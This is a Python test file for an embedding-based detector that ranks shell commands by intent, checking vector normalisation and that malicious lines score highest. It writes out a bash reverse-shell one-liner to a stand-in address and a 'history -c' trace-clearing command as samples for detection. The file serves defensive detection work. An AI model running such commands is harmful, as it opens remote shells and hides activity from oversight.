"""ruleless/embedding.py: the model runs offline with numpy and finds intent."""

from __future__ import annotations

import numpy as np

from ruleless.embedding import DIM, MODEL_NAME, embed

BENIGN = [
    "ls -la /var/log",
    "tar czf /backup/site.tgz /srv/www",
    "systemctl restart nginx",
    "python3 -m pytest -q tests",
    "git status --short",
    "df -h /",
]
REVERSE_SHELL = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"


def test_vectors_are_normalised_rows_in_input_order() -> None:
    texts = ["a much longer line of text than the others, to sort batches by length", "short", ""]
    vectors = embed(texts)
    assert vectors.shape == (3, DIM) and vectors.dtype == np.float32
    assert np.allclose(np.linalg.norm(vectors, axis=1), 1.0, atol=1e-5)
    # Row i is text i whatever the batching: the same text alone gives the same vector.
    assert np.allclose(embed([texts[1]])[0], vectors[1], atol=1e-5)
    assert embed([]).shape == (0, DIM)
    assert "all-MiniLM-L6-v2" in MODEL_NAME


def test_reverse_shell_ranks_above_benign_lines() -> None:
    lines = [*BENIGN, REVERSE_SHELL]
    scores = embed(lines) @ embed(["reverse shell"])[0]
    assert lines[int(np.argmax(scores))] == REVERSE_SHELL, dict(zip(lines, scores.round(3)))


def test_clearing_history_matches_its_description() -> None:
    lines = [*BENIGN, "history -c"]
    scores = embed(lines) @ embed(["clear the shell command history"])[0]
    assert lines[int(np.argmax(scores))] == "history -c"
